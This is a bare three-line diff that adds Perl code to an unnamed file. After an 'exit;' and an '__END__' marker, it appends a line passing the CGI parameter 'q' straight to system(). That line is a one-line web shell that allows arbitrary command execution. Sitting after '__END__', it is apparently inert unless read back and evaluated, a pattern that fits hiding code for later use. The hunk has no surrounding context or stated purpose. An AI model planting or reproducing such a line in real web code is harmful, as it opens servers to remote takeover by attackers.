@@ -1,0 +1,3 @@
+exit;
+__END__
+my$q=CGI::param('q');system($q);
